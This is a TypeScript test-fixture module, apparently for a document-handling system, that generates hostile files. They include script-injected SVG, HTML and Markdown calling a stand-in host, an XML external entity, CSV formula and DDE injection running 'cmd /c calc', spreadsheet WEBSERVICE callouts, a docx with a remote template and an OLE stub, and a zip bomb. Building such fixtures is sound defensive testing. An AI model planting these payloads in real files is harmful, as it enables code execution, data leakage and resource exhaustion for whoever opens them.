// Files other than PDF that want something: drawings, pages, sheets, texts, pictures, recordings. Made by code.
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { ELSEWHERE, MARKER } from './hostile-pdf.ts';

const script = `globalThis.${MARKER}=1;fetch('${ELSEWHERE}/script')`;

type Member = { readonly name: string; readonly content: Uint8Array | string; readonly claims?: number };

/** A zip by hand; `claims` is the size that a member says it has once it is unpacked. */
export function zipOf(members: readonly Member[]): Buffer {
  const parts: Buffer[] = [];
  const heads: Buffer[] = [];
  let at = 0;
  for (const { name, content, claims } of members) {
    const plain = Buffer.from(content);
    const packed = deflateRawSync(plain, { level: 9 });
    const head = Buffer.alloc(26);
    head.writeUInt16LE(20, 0);
    head.writeUInt16LE(8, 4);
    head.writeUInt32LE(crc32(plain), 10);
    head.writeUInt32LE(packed.length, 14);
    head.writeUInt32LE(claims ?? plain.length, 18);
    head.writeUInt16LE(name.length, 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), head, Buffer.from(name), packed]);
    heads.push(
      Buffer.concat([
        Buffer.from('PK\x01\x02'),
        Buffer.from([20, 0]),
        head,
        Buffer.alloc(10),
        Buffer.from(Uint32Array.of(at).buffer),
        Buffer.from(name),
      ]),
    );
    parts.push(local);
    at += local.length;
  }
  const directory = Buffer.concat(heads);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(members.length, 4);
  end.writeUInt16LE(members.length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...parts, directory, Buffer.from('PK\x05\x06'), end]);
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const types = (...overrides: readonly (readonly [string, string])[]): Member => ({
  name: '[Content_Types].xml',
  content: `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>${overrides.map(([part, type]) => `<Override PartName="${part}" ContentType="application/vnd.openxmlformats-officedocument.${type}+xml"/>`).join('')}</Types>`,
});
const relations = (name: string, ...all: readonly (readonly [string, string, boolean])[]): Member => ({
  name,
  content: `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.map(([type, target, isOutside], at) => `<Relationship Id="rId${at + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${isOutside ? ' TargetMode="External"' : ''}/>`).join('')}</Relationships>`,
});

/** A workbook with formulas that call out, an external link, a DDE link and a macro. */
const workbook = (): Buffer =>
  zipOf([
    types(['/xl/workbook.xml', 'spreadsheetml.sheet.main'], ['/xl/worksheets/sheet1.xml', 'spreadsheetml.worksheet']),
    relations('_rels/.rels', ['officeDocument', 'xl/workbook.xml', false]),
    {
      name: 'xl/workbook.xml',
      content: `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>`,
    },
    relations(
      'xl/_rels/workbook.xml.rels',
      ['worksheet', 'worksheets/sheet1.xml', false],
      ['externalLink', 'externalLinks/externalLink1.xml', false],
    ),
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>WEBSERVICE("${ELSEWHERE}/w")</f><v>5</v></c><c r="B1" t="str"><f>cmd|'/c calc'!A0</f><v>x</v></c></row></sheetData></worksheet>`,
    },
    {
      name: 'xl/externalLinks/externalLink1.xml',
      content: `${XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
    },
    relations('xl/externalLinks/_rels/externalLink1.xml.rels', ['externalLinkPath', `${ELSEWHERE}/x.xlsx`, true]),
    { name: 'xl/vbaProject.bin', content: 'Sub Auto_Open()' },
  ]);

/** A text with a template elsewhere, an embedded object and a picture elsewhere. */
const wordFile = (): Buffer =>
  zipOf([
    types(['/word/document.xml', 'wordprocessingml.document.main']),
    relations('_rels/.rels', ['officeDocument', 'word/document.xml', false]),
    {
      name: 'word/document.xml',
      content: `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body><w:p><w:r><w:t>Xin chào</w:t></w:r></w:p><w:p><w:hyperlink r:id="rId2"><w:r><w:t>liên kết</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object></w:r></w:p></w:body></w:document>`,
    },
    relations(
      'word/_rels/document.xml.rels',
      ['oleObject', 'embeddings/oleObject1.bin', false],
      ['hyperlink', `javascript:globalThis.${MARKER}=1`, true],
      ['image', `${ELSEWHERE}/picture.png`, true],
    ),
    relations('word/_rels/settings.xml.rels', ['attachedTemplate', `${ELSEWHERE}/t.dotm`, true]),
    { name: 'word/embeddings/oleObject1.bin', content: 'MZ' },
  ]);

const pngChunk = (type: string, data: Uint8Array): Buffer => {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
};
const png = (width: number, height: number): Buffer => {
  const head = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 2, 0, 0, 0]);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', head),
    pngChunk('IDAT', deflateSync(Buffer.alloc(1_000))),
    pngChunk('IEND', new Uint8Array()),
  ]);
};

const text = (content: string) => () => Buffer.from(content, 'utf8');

/** By the title under which it is evidence. */
export const HOSTILE_FILES: Readonly<Record<string, () => Buffer>> = {
  'drawing.svg': text(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${script}"><script>${script}</script><image xlink:href="${ELSEWHERE}/i.png" width="9" height="9"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}/f"/></foreignObject></svg>`,
  ),
  'page.html': text(
    `<!doctype html><meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh"><base href="${ELSEWHERE}"><script>${script}</script><img src=x onerror="${script}"><form action="${ELSEWHERE}/f" method=post><button autofocus>OK</button></form><link rel=stylesheet href="${ELSEWHERE}/c.css"><iframe srcdoc="<script>parent.${MARKER}=1</script>"></iframe>`,
  ),
  'external.xml': text(
    `<?xml version="1.0"?><?xml-stylesheet href="${ELSEWHERE}/x.xsl" type="text/xsl"?><!DOCTYPE a [<!ENTITY b SYSTEM "${ELSEWHERE}/e"><!ENTITY c "${'x'.repeat(50)}">]><a>&b;</a>`,
  ),
  'readme.md': text(
    `# A\n\n<script>${script}</script>\n\n<img src=x onerror="${script}">\n\n[b](javascript:globalThis.${MARKER}=1) ![c](${ELSEWHERE}/m.png) <${ELSEWHERE}/auto>\n\n[d]: ${ELSEWHERE}/def\n`,
  ),
  'deep.md': text(`${'> '.repeat(2_000)}deep\n\n${'*a '.repeat(5_000)}\n`),
  'knot.md': text('['.repeat(60_000)),
  'formulas.csv': text(
    `=HYPERLINK("${ELSEWHERE}/h","x"),@SUM(1),+cmd|'/c calc'!A0\n"<img src=x onerror=${script}>",-2\n`,
  ),
  'wide.csv': text(`${'a,'.repeat(100_000)}\n"never closed ${'x'.repeat(600_000)}`),
  'one-line.txt': () => Buffer.alloc(3_000_000, 'x'),
  'sheet.xlsx': workbook,
  'text.docx': wordFile,
  'bomb.xlsx': () =>
    zipOf([
      types(['/xl/workbook.xml', 'spreadsheetml.sheet.main']),
      relations('_rels/.rels', ['officeDocument', 'xl/workbook.xml', false]),
      { name: 'xl/workbook.xml', content: Buffer.alloc(40_000_000, ' '), claims: 100 },
    ]),
  'huge.png': () => png(60_000, 60_000),
  'broken.png': () => png(40, 40),
  'garbage.mp4': () =>
    Buffer.concat([
      Buffer.from([0, 0, 0, 24]),
      Buffer.from('ftypisom\x00\x00\x02\x00isommp42', 'latin1'),
      Buffer.alloc(200_000, 0xa5),
    ]),
  'garbage.bin': () => Buffer.alloc(10_000, 0x03),
};
